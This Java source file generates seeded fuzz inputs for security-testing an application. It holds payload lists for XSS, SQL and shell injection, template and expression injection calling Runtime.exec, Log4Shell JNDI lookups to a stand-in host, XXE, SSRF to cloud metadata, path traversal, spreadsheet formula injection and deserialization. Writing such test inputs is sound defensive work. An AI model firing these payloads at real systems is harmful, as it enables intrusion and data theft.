package org.pidesk.hostile;

import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Text of every kind that has ever made a program do something that nobody meant. Made, and not collected: some seeds of each
 * kind, and as many disguises of them as are asked for. Where one would become an element, an attribute, a script, a header or
 * a line of a log, that is called {@link Telltale#NAME}; where one would be reckoned, the result is one of
 * {@link Telltale#RESULTS}.
 */
public final class HostileStrings {
    private static final String SUM = "7654321*3";

    private HostileStrings() {}

    static final Map<String, List<String>> SEEDS = seeds();

    /** @return so many, all of them different; the same for the same seed */
    public static List<String> some(int count, long seed) {
        var random = new Random(seed);
        var kinds = new ArrayList<>(SEEDS.values());
        var all = new LinkedHashMap<String, Integer>();
        for (int round = 0; all.size() < count; round++) {
            for (var kind : kinds) {
                if (round < kind.size()) {
                    all.putIfAbsent(kind.get(round), round);
                } else {
                    all.putIfAbsent(disguised(kind.get(random.nextInt(kind.size())), random), round);
                }
            }
        }
        return all.keySet().stream().limit(count).toList();
    }

    private static String disguised(String text, Random random) {
        var disguised = text;
        for (int i = random.nextInt(2); i >= 0; i--) {
            disguised = DISGUISES.get(random.nextInt(DISGUISES.size())).put(disguised, random);
        }
        return disguised.length() > LONGEST ? disguised.substring(0, LONGEST) : disguised;
    }

    private static final int LONGEST = 6_000;

    private interface Disguise {
        String put(String text, Random random);
    }

    private static final List<String> BREAKS = List.of(
            "'",
            "\"",
            "`",
            "\\",
            ")",
            "}",
            "]",
            ">",
            "'>",
            "\">",
            "`}",
            "')",
            "\")",
            "*/",
            "-->",
            "]]>",
            "</script>",
            "</textarea>",
            "</title>",
            "</option></select>",
            "\r\n",
            "\n",
            "\0",
            "\t",
            ";",
            "|",
            "&",
            "%00",
            "%0d%0a",
            "#",
            "?",
            "//",
            "${",
            "#{",
            "{{",
            "__${",
            "[[",
            "[(");

    private static final List<String> ENDS = List.of(
            "", "'", "\"", "--", "#", "/*", "<!--", "\0", "\n", "%00", ".pdf", "}}", "}", ")]", "]]", "@example.com");

    private static final List<Disguise> DISGUISES = List.of(
            (text, random) -> one(BREAKS, random) + text,
            (text, random) -> text + one(ENDS, random),
            (text, random) -> one(BREAKS, random) + text + one(ENDS, random),
            (text, random) -> one(BREAKS, random) + one(BREAKS, random) + text,
            (text, random) -> each(text, letter -> random.nextBoolean() ? letter.toUpperCase(Locale.ROOT) : letter),
            (text, random) -> inTheMiddle(text, "\0", random),
            (text, random) -> inTheMiddle(text, "\u200B", random),
            (text, random) -> inTheMiddle(text, "\u202E", random),
            (text, random) -> inTheMiddle(text, "/**/", random),
            (text, random) -> inTheMiddle(text, "\r\n", random),
            (text, random) -> inTheMiddle(text, Bytes.lone(0xC0, 0x80), random),
            (text, random) -> inTheMiddle(text, "\uD800", random),
            (text, random) -> Bytes.escaped(text),
            (text, random) -> Bytes.escaped(Bytes.escaped(text)),
            (text, random) -> each(text, letter -> "&#" + letter.codePointAt(0) + ";"),
            (text, random) -> each(text, letter -> "&#x" + Integer.toHexString(letter.codePointAt(0))),
            (text, random) -> each(text, letter -> "\\u%04x".formatted((int) letter.charAt(0))),
            (text, random) -> each(text, letter -> "\\x" + HexFormat.of().toHexDigits((byte) letter.charAt(0))),
            (text, random) -> each(text, HostileStrings::wide),
            (text, random) -> Normalizer.normalize(text, Normalizer.Form.NFKD) + "\u0301".repeat(random.nextInt(20)),
            (text, random) -> "Thandi " + text + " Nkosi",
            (text, random) -> "thandi.nkosi@example.com" + text,
            (text, random) -> "0825550101" + text,
            (text, random) -> "https://" + text + "/",
            (text, random) -> "\uFEFF " + text + "\u00A0\u2003",
            (text, random) -> text + "\n"
                    + one(SEEDS.values().stream().flatMap(List::stream).toList(), random),
            (text, random) -> text.repeat(2 + random.nextInt(20)),
            (text, random) -> "A".repeat(random.nextInt(3_000)) + text,
            (text, random) -> "{\"x\":\"" + text + "\"}",
            (text, random) -> "=" + text,
            (text, random) -> random.nextInt(1_000_000) + text);

    private static <T> T one(List<T> of, Random random) {
        return of.get(random.nextInt(of.size()));
    }

    private static String inTheMiddle(String text, String what, Random random) {
        var at = random.nextInt(text.length() + 1);
        return text.substring(0, at) + what + text.substring(at);
    }

    private static String each(String text, UnaryOperator<String> change) {
        return text.chars()
                .mapToObj(letter -> change.apply(String.valueOf((char) letter)))
                .collect(Collectors.joining());
    }

    /** As wide as a Chinese letter, which some programs take for the narrow one. */
    private static String wide(String letter) {
        var code = letter.charAt(0);
        return code > ' ' && code < 127 ? String.valueOf((char) (code + 0xFEE0)) : letter;
    }

    private static Map<String, List<String>> seeds() {
        var seeds = new LinkedHashMap<String, List<String>>();
        seeds.put("markup", markup());
        seeds.put(
                "attribute",
                crossed(
                        List.of("\"", "'", "`", "\" ", "x\" autofocus ", "'><img src=x "),
                        List.of(
                                "onfocus=mallory() ",
                                "onmouseover=mallory(1) ",
                                "onerror=mallory` ",
                                "mallory=",
                                "style=x:mallory ",
                                "formaction=javascript:mallory() ",
                                "srcdoc=<b>mallory</b> ")));
        seeds.put(
                "address",
                List.of(
                        "javascript:mallory()",
                        "JaVaScRiPt:mallory(1)",
                        "java\tscript:mallory()",
                        "\u0001javascript:mallory()",
                        "data:text/html,<script>mallory()</script>",
                        "data:text/html;base64,bWFsbG9yeQ==",
                        "vbscript:mallory",
                        "//mallory.example/",
                        "/\\mallory.example",
                        "\\\\mallory.example\\x",
                        "https://mallory.example/",
                        "https:mallory.example",
                        "///mallory.example",
                        "http://localhost@mallory.example/",
                        "http://127.0.0.1:1/mallory",
                        "http://169.254.169.254/latest/meta-data/",
                        "file:///etc/passwd",
                        "jar:http://mallory.example!/x",
                        "ldap://mallory.example/x",
                        "gopher://127.0.0.1:25/_MAIL%20FROM"));
        seeds.put(
                "script in a template of Angular",
                List.of(
                        "{{constructor.constructor('mallory()')()}}",
                        "{{" + SUM + "}}",
                        "{{$on.constructor('mallory()')()}}",
                        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };mallory()//');}}",
                        "{{toString()}}",
                        "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(109))()}}",
                        "ng-app mallory",
                        "<div ng-app ng-csp mallory>{{" + SUM + "}}</div>",
                        "[[${" + SUM + "}]]",
                        "{{=" + SUM + "}}"));
        seeds.put("expression", expressions());
        seeds.put(
                "SQL",
                crossed(
                        List.of("'", "\"", "')", "'))", "1", "\\'", "$$", "%'", "'||'"),
                        List.of(
                                " or 1=1 --",
                                "; drop table fact; --",
                                " union select null,version(),null --",
                                " and 1=cast((select version()) as int) --",
                                "||pg_sleep(30)--",
                                "; select pg_sleep(30); --",
                                " or exists(select 1 from pg_user) --",
                                "; copy (select 1) to program 'touch /tmp/mallory' --",
                                " order by 9999 --",
                                " limit 1 into outfile 'x' --")));
        seeds.put(
                "LIKE",
                List.of("%", "_", "%%", "\\", "\\%", "%_%", "[a-z]%", "_%_%_%_%_%_%_%_%", "*", "?", "^$", ".*"));
        seeds.put(
                "LDAP",
                List.of(
                        "*)(uid=*))(|(uid=*",
                        "admin)(&)",
                        "*",
                        "*)(&",
                        ")(cn=))\u0000",
                        "\\2a\\28\\29",
                        "(|(objectClass=*))"));
        seeds.put("XPath and XML", xml());
        seeds.put(
                "shell",
                crossed(
                        List.of(";", "|", "&&", "||", "\n", "`", "$(", "<(", "&"),
                        List.of(
                                "id",
                                "cat /etc/passwd",
                                "sleep 30",
                                "touch /tmp/mallory",
                                "ping -c 9 127.0.0.1",
                                "echo mallory")));
        seeds.put(
                "JavaScript object",
                List.of(
                        "__proto__",
                        "constructor",
                        "prototype",
                        "__proto__[mallory]=1",
                        "hasOwnProperty",
                        "toString",
                        "valueOf",
                        "{\"__proto__\":{\"mallory\":true}}",
                        "undefined",
                        "null",
                        "NaN",
                        "[object Object]",
                        "this",
                        "true",
                        "false",
                        "{\"$ne\":null}",
                        "{\"$gt\":\"\"}",
                        "{\"$where\":\"sleep(9)\"}",
                        "[]",
                        "{}",
                        "[[]]",
                        "\"\"",
                        "None",
                        "nil"));
        seeds.put("header", headers());
        seeds.put(
                "line of a log",
                List.of(
                        "x\nMALLORY 2026-01-01 ERROR forged",
                        "x\r\nMALLORY forged",
                        "x\rMALLORY forged",
                        "x\u2028MALLORY forged",
                        "x\u0085MALLORY forged",
                        "x\u000bMALLORY forged",
                        "\u001b[2J\u001b[31mMALLORY",
                        "\u001b]0;MALLORY\u0007",
                        "\bx\b\b\bMALLORY",
                        "${jndi:ldap://mallory.example/x}",
                        "${${lower:j}ndi:rmi://mallory.example/x}",
                        "${env:HOME}",
                        "${sys:user.home}",
                        "%d{yyyy}",
                        "%msg%n",
                        "%X{mallory}",
                        "{}{}{}",
                        "{0}{1}"));
        seeds.put("path", paths());
        seeds.put(
                "format",
                List.of(
                        "%s%s%s%s%s%s%s",
                        "%n%n%n",
                        "%x%x%x%x",
                        "%d",
                        "%1$s%2$s%99$s",
                        "%999999999d",
                        "%.9999999f",
                        "%",
                        "%%",
                        "%c",
                        "{0}",
                        "{999999}",
                        "{0,number,#}",
                        "{",
                        "}",
                        "'{'",
                        "''",
                        "$1",
                        "\\1",
                        "$0",
                        "\\E",
                        "\\Q",
                        "(?i)",
                        "(((((",
                        "[",
                        "(a+)+$",
                        "a".repeat(60) + "!",
                        "((a*)*)*b",
                        "%p%t%w",
                        "@@@",
                        "~{x}",
                        "!{x}"));
        seeds.put(
                "number",
                List.of(
                        "0",
                        "-0",
                        "-1",
                        "1e309",
                        "-1e309",
                        "1e-400",
                        "9".repeat(400),
                        "99999999999999999999",
                        "2147483648",
                        "-2147483649",
                        "9223372036854775808",
                        "-9223372036854775809",
                        "0x7fffffff",
                        "017",
                        "1_000",
                        "1,000.00",
                        "1.000,00",
                        "NaN",
                        "Infinity",
                        "-Infinity",
                        "+1",
                        " 1",
                        "1 ",
                        "\u0661\u0662",
                        "\u0967\u096A",
                        "\u2160",
                        "\u00BD",
                        "\u00B2",
                        "1.7976931348623157e308",
                        "2.2250738585072011e-308",
                        "0." + "0".repeat(300) + "1",
                        "1/0",
                        "--1",
                        "1e1000000000",
                        "٣",
                        "๓",
                        "၃"));
        seeds.put(
                "date",
                List.of(
                        "2026-02-29",
                        "2026-02-30",
                        "2026-13-01",
                        "2026-00-00",
                        "0000-01-01",
                        "-0001-01-01",
                        "9999-12-31",
                        "10000-01-01",
                        "+999999999-12-31",
                        "-999999999-01-01",
                        "1582-10-10",
                        "2026-11-31",
                        "2026-1-1",
                        "01/02/2026",
                        "2026-12-31T24:00:00",
                        "2026-12-31T23:59:60Z",
                        "2016-12-31T23:59:60Z",
                        "1970-01-01",
                        "2038-01-19",
                        "292278994-08-17",
                        "2026-W53-7",
                        "2026-366",
                        "now",
                        "today",
                        "infinity",
                        "-infinity",
                        "epoch",
                        "2026-99",
                        "2026-00",
                        "0000-00",
                        "+1000000000-01",
                        "\u0662\u0660\u0662\u0666-01-01",
                        "2026-12-31+99:00",
                        "20261231"));
        seeds.put(
                "cell of a table",
                crossed(
                        List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\"=", "'=", "\uFF1D"),
                        List.of(
                                "cmd|' /C calc'!A0",
                                SUM,
                                "HYPERLINK(\"http://mallory.example?\"&A1,\"x\")",
                                "1+1",
                                "SUM(A1:A9)",
                                "IMPORTXML(\"http://mallory.example\",\"//a\")",
                                "DDE(\"cmd\";\"/C calc\";\"x\")")));
        seeds.put(
                "list",
                List.of(
                        ",",
                        ";",
                        "\",\"",
                        "\"",
                        "\"\"\"",
                        "\"a",
                        "a\"b",
                        "a,b\nc",
                        "email\nemail\nemail",
                        "\uFEFFemail",
                        "email,email",
                        "email\tmobile",
                        "email;mobile\r\n;;;;;",
                        ",".repeat(3_000),
                        "\"" + "\n".repeat(900),
                        "a\0b,c",
                        "\u001f\u001e",
                        "email\r" + "x@example.com\r".repeat(20)));
        seeds.put(
                "control",
                IntStream.concat(IntStream.range(0, 32), IntStream.rangeClosed(0x7F, 0x9F))
                        .mapToObj(letter -> "Thandi" + (char) letter + "Nkosi")
                        .toList());
        seeds.put(
                "no letters",
                List.of(
                        "\uD800",
                        "\uDFFF\uD800",
                        "x\uD83D",
                        "\uDE00x",
                        Bytes.lone(0xFF),
                        Bytes.lone(0xFE, 0xFF),
                        Bytes.lone(0xC0, 0xAF),
                        Bytes.lone(0xC0, 0x80),
                        Bytes.lone(0xE0, 0x80, 0xAF),
                        Bytes.lone(0xF0, 0x80, 0x80, 0xAF),
                        Bytes.lone(0xF8, 0x88),
                        Bytes.lone(0xED, 0xA0, 0x80),
                        Bytes.lone(0xF4, 0x90, 0x80, 0x80),
                        Bytes.lone(0xC3),
                        "\uFFFE",
                        "\uFFFF",
                        "\uFDD0",
                        new String(Character.toChars(0x1FFFE)),
                        new String(Character.toChars(0x10FFFF)),
                        "\uFFFD",
                        Bytes.lone(0xC0, 0xBC) + "mallory" + Bytes.lone(0xC0, 0xBE)));
        seeds.put(
                "direction",
                List.of(
                        "\u202Eyrollam",
                        "Thandi\u202E fdp.exe",
                        "\u2066x\u2069",
                        "\u200F",
                        "\u200E",
                        "\u061C",
                        "\u202A\u202B\u202C",
                        "\u0627\u0644\u0639\u0631\u0628\u064A\u0629",
                        "\u05E2\u05D1\u05E8\u05D9\u05EA abc 123",
                        "\u202E".repeat(500)));
        seeds.put(
                "nothing to see",
                List.of(
                        "",
                        " ",
                        "\t",
                        "\n",
                        "\r\n",
                        "\u00A0",
                        "\u2003",
                        "\u3000",
                        "\u200B",
                        "\u200C",
                        "\u200D",
                        "\u2060",
                        "\uFEFF",
                        "\u00AD",
                        "\u180E",
                        "\u115F",
                        "\u3164",
                        "\u2800",
                        "\uFE0F",
                        "\u034F",
                        "\u17B5",
                        new String(Character.toChars(0xE0041)),
                        " ".repeat(5_000),
                        "\u200B".repeat(900),
                        "\u2028",
                        "\u2029"));
        seeds.put(
                "combined",
                List.of(
                        "e\u0301",
                        "\u0301",
                        "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D",
                        "x" + "\u0335".repeat(1_000),
                        "\u0E33\u0E33",
                        "\u1100\u1161\u11A8",
                        "\u0F71\u0F72\u0F74",
                        "\uFDFA".repeat(50),
                        "\u0344",
                        "\u2126",
                        "\u212B",
                        "\uFB01",
                        "\uFB03",
                        "o\u0328\u0304",
                        "\u1E9B\u0323"));
        seeds.put(
                "picture",
                List.of(
                        "\uD83D\uDE00",
                        "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                        "\uD83C\uDDFF\uD83C\uDDE6",
                        "\uD83D\uDC4D\uD83C\uDFFF",
                        "\uD83D\uDE00".repeat(300),
                        "\u2764\uFE0F",
                        "1\uFE0F\u20E3",
                        "\uD83C\uDFF4\u200D\u2620\uFE0F"));
        seeds.put(
                "case",
                List.of(
                        "\u0130",
                        "\u0131",
                        "\u00DF",
                        "\u1E9E",
                        "\u017F",
                        "\u212A",
                        "\u0149",
                        "\u01F0",
                        "\u0390",
                        "\uFB00",
                        "\u03A3\u03C3\u03C2",
                        "\u0130stanbul@example.com",
                        "STRASSE",
                        "stra\u00DFe",
                        "\u01C5",
                        "\u10A0",
                        "\u13A0"));
        seeds.put(
                "double",
                List.of(
                        "th\u0430ndi.nkosi@example.com",
                        "thandi.nkosi@ex\u0430mple.com",
                        "\u0421\u0430m\u0440",
                        "p\u0430ypal",
                        "thandi.nkosi\uFF20example.com",
                        "thandi\u2024nkosi@example.com",
                        "\u2488example.com",
                        "xn--80ak6aa92e.com",
                        "admin\u00A0",
                        "\u0430dmin",
                        "adm\u0456n",
                        "n\u0430ledi",
                        "naledi\u200B",
                        "ABC\u00A0Motors",
                        "\u13A1\u13A1",
                        "\u0661\u0668\u0662",
                        "\uFF10\uFF18\uFF12\uFF15\uFF15\uFF15",
                        "\u2795\uFF12\uFF17"));
        seeds.put(
                "address of a mail",
                List.of(
                        "thandi@example.com\r\nBcc: mallory@example.net",
                        "thandi@example.com,mallory@example.net",
                        "thandi@example.com;mallory@example.net",
                        "<thandi@example.com> mallory@example.net",
                        "\"thandi\r\nRCPT TO:<mallory@example.net>\"@example.com",
                        "thandi@example.com>\r\nDATA",
                        "@",
                        "a@",
                        "@b",
                        "a@b",
                        "a@b@c",
                        "\"\"@example.com",
                        "\" \"@example.com",
                        "a@[127.0.0.1]",
                        "a@[IPv6:::1]",
                        "a@localhost",
                        "a..b@example.com",
                        ".a@example.com",
                        "a.@example.com",
                        "a@-example.com",
                        "a@example..com",
                        "a".repeat(65) + "@example.com",
                        "a@" + "b".repeat(64) + ".com",
                        "a@" + "b.".repeat(200) + "com",
                        "=?utf-8?q?mallory?=@example.com",
                        "(x)a@example.com(y)",
                        "a%b@example.com",
                        "a!b@example.com",
                        "|id@example.com",
                        "-oQ/tmp -X/tmp/mallory@example.com",
                        "${" + SUM + "}@example.com",
                        "<b/mallory>@example.com",
                        "a+<mallory>@example.com",
                        "\"<b mallory>\"@example.com",
                        "t\u00E9@example.com",
                        "a@\u0438.com"));
        seeds.put(
                "number of a telephone",
                List.of(
                        "+27 82 555 0101; rm",
                        "0825550101\n0825550102",
                        "082-555-0101",
                        "(082) 555 0101",
                        "27825550101",
                        "0027825550101",
                        "+",
                        "++27825550101",
                        "+27" + "8".repeat(40),
                        "0900123456",
                        "+1 900 555 0101",
                        "112",
                        "10111",
                        "*#06#",
                        "tel:+27825550101",
                        "0825550101,,,9",
                        "0825550101 ext 5",
                        "+27825550101;phone-context=mallory",
                        "082555010\u0661",
                        "\uFF0B27825550101",
                        "sms:?body=mallory"));
        seeds.put(
                "word of ours",
                List.of(
                        "admin",
                        "naledi",
                        "johan",
                        "abc-motors",
                        "sea-point-cars",
                        "camunda-admin",
                        "nobody",
                        "demo",
                        "root",
                        "postgres",
                        "null",
                        "default",
                        "*",
                        "all",
                        "true",
                        "OPEN",
                        "DONE",
                        "NOTHING_HOLDS",
                        "RELEASE",
                        "PI-0000-0000-0000",
                        "PI-7K3M-9QXW-C2TD",
                        "00000000-0000-0000-0000-000000000000",
                        "00000000-0000-4000-8000-000000000000",
                        "userTask_decideWhatMustStay",
                        "deIdentify",
                        "thandi.nkosi@example.com",
                        "0825550101",
                        "9001320000085",
                        "1"));
        seeds.put(
                "long",
                List.of(
                        "a".repeat(255),
                        "a".repeat(256),
                        "a".repeat(300),
                        "a".repeat(1_025),
                        "a".repeat(5_000),
                        "9".repeat(5_000),
                        "\u00E9".repeat(2_000),
                        "a ".repeat(2_000),
                        "\n".repeat(2_000),
                        "<".repeat(2_000),
                        "&".repeat(2_000),
                        "(".repeat(2_000),
                        "[".repeat(5_000),
                        "{\"a\":".repeat(900),
                        "../".repeat(900),
                        "%".repeat(2_000),
                        "www.".repeat(500),
                        "a@".repeat(900),
                        "http://".repeat(300)));
        seeds.put(
                "written object",
                List.of(
                        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                        "\u00AC\u00ED\u0000\u0005sr",
                        "!!javax.script.ScriptEngineManager [x]",
                        "[\"java.net.URL\",\"http://mallory.example\"]",
                        "{\"@class\":\"java.lang.Runtime\"}",
                        "O:8:\"stdClass\":0:{}",
                        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
                        "class.module.classLoader.resources.context.parent=mallory"));
        return seeds;
    }

    private static List<String> markup() {
        return List.of(
                "<mallory>",
                "</mallory>",
                "<b mallory>",
                "<b mallory=1>x</b>",
                "<mallory/>",
                "<MALLORY>",
                "< mallory>",
                "<script>mallory()</script>",
                "</script><script>mallory()</script>",
                "<scr<script>ipt>mallory()</scr</script>ipt>",
                "<script src=//mallory.example/x></script>",
                "<img src=x onerror=mallory()>",
                "<img/src=x/onerror=mallory()>",
                "<svg onload=mallory()>",
                "<svg><script>mallory()</script></svg>",
                "<svg/onload=mallory()//",
                "<math><mi//xlink:href=\"data:x,<script>mallory()</script>\">",
                "<iframe srcdoc=\"<script>mallory()</script>\">",
                "<iframe src=javascript:mallory()>",
                "<object data=javascript:mallory()>",
                "<embed src=javascript:mallory()>",
                "<a href=javascript:mallory()>x</a>",
                "<a href=\"java&#x09;script:mallory()\">x</a>",
                "<form action=javascript:mallory()><button>x",
                "<button formaction=javascript:mallory()>x",
                "<input autofocus onfocus=mallory()>",
                "<details open ontoggle=mallory()>",
                "<body onload=mallory()>",
                "<style>@import '//mallory.example/x';</style>",
                "<link rel=stylesheet href=//mallory.example>",
                "<meta http-equiv=refresh content='0;url=javascript:mallory()'>",
                "<base href=//mallory.example/>",
                "<!--<mallory>-->",
                "<!--[if IE]><mallory><![endif]-->",
                "<![CDATA[<mallory>]]>",
                "<?mallory ?>",
                "</title><mallory>",
                "</textarea><mallory>",
                "</style><mallory>",
                "</option></select><mallory>",
                "--><mallory>",
                "]]><mallory>",
                "\"><mallory>",
                "'><mallory>",
                "`><mallory>",
                "&lt;mallory&gt;",
                "&#60;mallory&#62;",
                "%3Cmallory%3E",
                "\\u003cmallory\\u003e",
                "\\x3cmallory\\x3e",
                "+ADw-mallory+AD4-",
                "\uFF1Cmallory\uFF1E",
                "\u2039mallory\u203A",
                "<mallory\u0000>",
                "<\u0000mallory>",
                "<video><source onerror=mallory()>",
                "<marquee onstart=mallory()>",
                "<template><mallory></template>",
                "<noscript><p title=\"</noscript><mallory>\">",
                "<xmp><p title=\"</xmp><mallory>\">",
                "<plaintext><mallory>");
    }

    private static List<String> expressions() {
        var all = new ArrayList<String>();
        for (var bracket : List.of(
                "${%s}",
                "#{%s}",
                "*{%s}",
                "@{%s}",
                "~{%s}",
                "$%s",
                "%%{%s}",
                "<%%=%s%%>",
                "[[${%s}]]",
                "[(${%s})]",
                "__${%s}__::.x",
                "${{%s}}",
                "#set($x=%s)$x",
                "{%% print(%s) %%}",
                "${T(java.lang.Math).abs(%s)}",
                "%%24%%7B%s%%7D",
                "\\${%s}",
                "'+(%s)+'",
                "\"+(%s)+\"",
                "`+${%s}+`",
                "=%s",
                "eval(%s)",
                "|${%s}|",
                "_%s_",
                "__${T(java.lang.Long).valueOf(%s)}__")) {
            all.add(bracket.formatted(SUM));
        }
        all.addAll(List.of(
                "${'7654321'.concat('7654321').concat('7654321')}",
                "#{'7654321'*3}",
                "{{'7654321'*3}}",
                "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/mallory')}",
                "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/mallory')}",
                "${''.getClass().forName('java.lang.Runtime')}",
                "%{(#_='multipart/form-data').(#x=@java.lang.Runtime@getRuntime())}",
                "${execution.setVariable('mallory',1)}",
                "${currentUser()}",
                "${now()}",
                "${dateTime()}",
                "${authenticatedUserId}",
                "${task.setAssignee('mallory')}",
                "${applicationScope}",
                "${pageContext.request}",
                "#{session.setAttribute('x','y')}",
                "${sandboxMessages}",
                "${deIdentify}",
                "${@environment.getProperty('pidesk.secret')}",
                "${@dataSource}",
                "*{T(org.thymeleaf.context.WebEngineContext)}",
                "__|$${" + SUM + "}|__::.x",
                "~{::mallory}",
                "~{file:/etc/passwd}"));
        return all;
    }

    private static List<String> xml() {
        return List.of(
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY m SYSTEM \"file:///etc/passwd\">]><x>&m;</x>",
                "<!DOCTYPE x [<!ENTITY a \"mallory\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]>&c;",
                "<!DOCTYPE x SYSTEM \"http://127.0.0.1:1/mallory.dtd\">",
                "' or '1'='1",
                "' or ''='",
                "x' or name()='a' or 'x'='y",
                "\"] | //user/*[\"",
                "count(/child::node())",
                "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></x>",
                "]]>",
                "&mallory;",
                "&#0;",
                "&#xD800;",
                "&amp;&lt;",
                "<xsl:value-of select=\"system-property('x')\"/>",
                "<" + "a".repeat(900) + ">",
                "<a>".repeat(900),
                "{".repeat(2_000),
                "[".repeat(2_000),
                "[" + "1,".repeat(900) + "1]");
    }

    private static List<String> headers() {
        return crossed(
                List.of(
                        "x\r\n",
                        "x\n",
                        "x\r",
                        "x%0d%0a",
                        "x%0a",
                        "x\u560D\u560A",
                        "x\r\n\r\n",
                        "x\u2028",
                        "x\u0085",
                        "\r\n "),
                List.of(
                        "Mallory: 1",
                        "Set-Cookie: mallory=1",
                        "Location: https://mallory.example",
                        "Bcc: mallory@example.net",
                        "Content-Type: text/html\r\n\r\n<mallory>",
                        "To: mallory@example.net",
                        "HTTP/1.1 200 OK\r\nMallory: 1"));
    }

    private static List<String> paths() {
        return crossed(
                List.of(
                        "../",
                        "..\\",
                        "..%2f",
                        "%2e%2e/",
                        "..%252f",
                        "....//",
                        "..;/",
                        "/",
                        "\\",
                        "~/",
                        "./",
                        "file:",
                        "..%c0%af",
                        Bytes.lone(0xAE) + "/"),
                List.of(
                        "etc/passwd",
                        "application.yml",
                        "WEB-INF/web.xml",
                        "windows\\win.ini",
                        "CON",
                        "NUL.pdf",
                        "x".repeat(300) + ".pdf",
                        "evidence.pdf\0.exe"));
    }

    private static List<String> crossed(Collection<String> fronts, Collection<String> backs) {
        return fronts.stream()
                .flatMap(front -> backs.stream().map(back -> front + back))
                .toList();
    }
}
